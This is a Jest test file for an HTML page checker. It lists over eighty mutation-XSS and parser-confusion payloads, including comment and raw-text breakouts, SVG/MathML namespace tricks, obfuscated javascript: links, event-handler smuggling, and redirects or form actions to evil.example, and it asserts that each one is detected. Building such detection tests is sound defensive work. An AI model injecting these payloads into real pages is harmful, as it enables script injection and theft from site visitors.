import { describe, expect, it } from '@jest/globals';
import { checkPage } from './check-page.ts';

const rules = { siteUrl: 'https://site.example', isSkeleton: false };
const check = (inside: string) =>
  checkPage(
    {
      path: '/blog',
      html: `<header><a href="/">Home</a></header><main id="main"><h1>Blog</h1>${inside}</main><footer><p>Read <a href="/privacy">Privacy</a></p></footer>`,
      css: '',
    },
    rules,
  );

/** Markup that browsers parse differently than it looks, with the reason for its refusal. */
const SHAPES: readonly (readonly [shape: string, reason: RegExp])[] = [
  // Comments with unexpected ends.
  ['<!--<a b="--><script>1</script>"></a>-->', /<script>/],
  ['<!--<a b="--><meta http-equiv=refresh content="0;url=//evil.example">', /<meta>/],
  ['<!--><script>1</script>-->', /<script>/],
  ['<!---><script>1</script>-->', /<script>/],
  ['<!-- --!><script>1</script>-->', /<script>/],
  ['<!-- <!-- --><script>1</script> -->', /<script>/],
  ['<!doctype a="><script>1</script>">', /<script>/],
  ['<?php "><script>1</script>" ?>', /<script>/],
  ['</ a="><script>1</script>">', /<script>/],
  ['<![CDATA[><script>1</script>]]>', /<script>/],
  ['<svg><![CDATA[</svg>]]><script>1</script></svg>', /<script>/],
  ['<!-- never ends', /breaks out of its <main>/],
  ['<!--', /breaks out of its <main>/],
  // Raw text elements.
  ['<textarea><a b="</textarea><script>1</script>"></a></textarea>', /<script>/],
  ['<title><a b="</title><script>1</script>"></title>', /<script>/],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /event handler/],
  ['<noscript><a href="javascript:x">x</a></noscript>', /empty or script link/],
  ['<noscript><iframe src="/x"></iframe></noscript>', /<iframe>/],
  ['<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', /event handler/],
  ['<iframe><a b="</iframe><script>1</script>"></iframe>', /<script>/],
  ['<noembed><img title="</noembed><svg onload=x>"></noembed>', /event handler/],
  ['<noframes><p title="</noframes><svg onload=x>"></noframes>', /event handler/],
  ['<style><a title="</style><img src=x onerror=alert(1)>"></style>', /event handler/],
  ['<plaintext>', /<plaintext>/],
  ['<textarea>', /breaks out of its <main>/],
  ['<select><option>', /breaks out of its <main>/],
  // SVG and MathML, where names have other meanings.
  ['<svg><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>', /<style>/],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>', /event handler/],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>',
    /<style>/,
  ],
  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', /<style>/],
  ['<svg><desc><noscript></desc></svg><script>1</script>', /<script>/],
  ['<svg><foreignObject><iframe></iframe></foreignObject></svg>', /<iframe>/],
  ['<svg><script href="/x.js"></script></svg>', /<script>/],
  ['<SVG><SCRIPT>1</SCRIPT></SVG>', /<script>/],
  ['<math><maction xlink:href="javascript:x">a</maction></math>', /empty or script link/],
  ['<math href="javascript:x">a</math>', /empty or script link/],
  ['<svg><a><animate attributeName="href" values="javascript:x"></animate></a></svg>', /animates href/],
  ['<svg><a><set attributeName="xlink:href" to="javascript:x"></set></a></svg>', /animates xlink:href/],
  ['<svg><set attributeName="onclick" to="x"></set></svg>', /animates onclick/],
  ['<svg><image href="//evil.example/a.svg"></image></svg>', /loads a <image> from evil\.example/],
  ['<svg><use xlink:href="https://evil.example/a.svg#a"></use></svg>', /loads a <use> from evil\.example/],
  ['<svg><title><script>1</script></title></svg>', /<script>/],
  ['<math><annotation-xml encoding="text/html"><script>1</script></annotation-xml></math>', /<script>/],
  ['<svg><p><style><!--</style><base href="//evil.example">', /<base>/],
  // Duplicate and unquoted attributes.
  ['<a href="/" href="/x" onclick=x>x</a>', /event handler/],
  ['<a href="javascript:x" href="/">x</a>', /empty or script link/],
  ['<a href="&#106;avascript&colon;x">x</a>', /empty or script link/],
  ['<a href="&Tab;java&NewLine;script:x">x</a>', /empty or script link/],
  ['<a href="\u0001javascript:x">x</a>', /empty or script link/],
  ['<a href="data:text/html,<script>1</script>">x</a>', /empty or script link/],
  ['<a href="vbscript:x">x</a>', /empty or script link/],
  ['<a title="x"onclick="y">x</a>', /event handler/],
  ['<a/title="x"/onclick="y">x</a>', /event handler/],
  ['<a title=x`onclick=y`>x</a><p/onclick=y>', /event handler/],
  ["<a title='\"'onclick=y>x</a>", /event handler/],
  ['<p =onclick=y onfocus=x>x</p>', /event handler/],
  ['<img src="x\u0000" o\u0000n=1 onerror=x>', /event handler/],
  ['<p\u000cstyle=x>x</p>', /style attribute/],
  ['<button formaction="java\nscript:x">x</button>', /empty or script link/],
  // Elements that browsers move, and markup around the page.
  ['</main><a href="https://evil.example/">x</a>', /breaks out of its <main>/],
  ['</div></main></div></div><p>x</p>', /breaks out of its <main>/],
  ['<a href="https://evil.example/">', /breaks out of its <main>/],
  ['<b class="css-evil"><i>', /breaks out of its <main>/],
  ['<table><tr><td>', /breaks out of its <main>/],
  ['<template><p>', /breaks out of its <main>/],
  ['<template><script>1</script></template>', /<script>/],
  ['<template><img onerror=x></template>', /event handler/],
  ['<table><script>1</script></table>', /<script>/],
  ['<table><a href="javascript:x">x</a></table>', /empty or script link/],
  ['<select><svg onload=x></svg></select><svg onload=x></svg>', /event handler/],
  ['<body onload=x>', /event handler/],
  ['<html onclick=x>', /event handler/],
  ['<frameset onload=x><svg/onload=x>', /event handler/],
  ['<image src=x onerror=x>', /event handler/],
  [
    '<form action="/a"><form action="//evil.example"></form><input formaction="//evil.example"></form>',
    /sends a form to evil\.example/,
  ],
  // Slots that would be filled where browsers have no element.
  ['<!-- <p data-slot="reference"> -->', /slot that browsers parse differently/],
  ['<p title=\'<b data-fill="reference">\'>x</p>', /slot that browsers parse differently/],
  ['<p title=\' data-fill="reference"\'>x</p>', /slot that browsers parse differently/],
  ['<textarea><form method="post" action="/blog"></textarea>', /slot that browsers parse differently/],
  ["<p data-slot='a' title=' data-slot=\"errors\"'>x</p>", /slot that browsers parse differently/],
  ['<svg><![CDATA[<b data-fill="reference">]]></svg>', /slot that browsers parse differently/],
];

describe('markup that browsers parse differently', () => {
  it('has at least sixty different cases', () => {
    expect(new Set(SHAPES.map(([shape]) => shape)).size).toBe(SHAPES.length);
    expect(SHAPES.length).toBeGreaterThanOrEqual(60);
  });

  it.each(SHAPES)('is detected in %j', (shape, reason) => {
    expect(
      check(shape)
        .faults.map(({ message }) => message)
        .join('\n'),
    ).toMatch(reason);
  });

  it.each([
    '<!--<script>1</script>-->',
    '<!--<a href="/gone">x</a>--><p>&lt;script&gt;</p>',
    '<!--$--><p>a<!-- -->b</p><!--/$-->',
    '<p title="a > b <c>">x</p>',
    '<textarea name="a">&lt;/textarea&gt;&lt;script&gt;</textarea>',
    '<p>Unclosed<p>paragraphs<ul><li>a<li>b</ul>',
    '<table><tr><td>no body</table>',
    '<noscript><p>Turn on scripts to <a href="/blog">search</a>.</p></noscript>',
    '<svg viewBox="0 0 1 1"><title>a</title><use href="#icon"></use><animate attributeName="opacity" values="0;1"></animate></svg>',
    '<svg><image href="/assets/blog/a.png"></image></svg><img src="data:image/png;base64,AA==" alt="">',
    '<math><mi>x</mi></math><details open=""><summary>x</summary></details>',
    '<form method="post" action="/blog"><p hidden="" data-slot="error-a"><span data-fill="error-a"></span></p><input name="a" value="x &gt; y"></form>',
    '<form method="post" data-own-address=""><select name="b"><option value="1">1</option></select></form>',
    '<a href="tel:+12025550142">x</a><a href="mailto:a@b.example">x</a><a href="https://other.example/">x</a>',
    '<link rel="preload" as="image" href="/assets/blog/a.png"><img src="/assets/blog/a.png" srcset="/a.png 1x, /b,c.png 2x">',
    '<a id="x"><a href="/blog">twice</a>',
  ])('does not refuse %j', (shape) => expect(check(shape).faults).toEqual([]));

  it('does not hide links: only those in the parsed tree count', () => {
    const { links } = check(
      '<!--<a href="/no">x</a>--><a href="/one&#47;two">x</a><template><a href="/three">x</a></template>',
    );

    expect(links).toEqual({ own: ['/one/two', '/three'], frame: ['/', '/privacy'] });
  });

  it('is refused before error recovery multiplies its elements', () => {
    const bold = Array.from({ length: 2000 }, (_, n) => `<b a${n}>`).join('');

    expect(check(`${bold}${'<p>x'.repeat(2000)}`).faults).toEqual([
      expect.objectContaining({ message: expect.stringMatching(/more than \d+/) }),
    ]);
    expect(check('<i></i>'.repeat(30_000)).faults).toEqual([
      expect.objectContaining({ message: expect.stringContaining('more than 20000 elements') }),
    ]);
  });
});
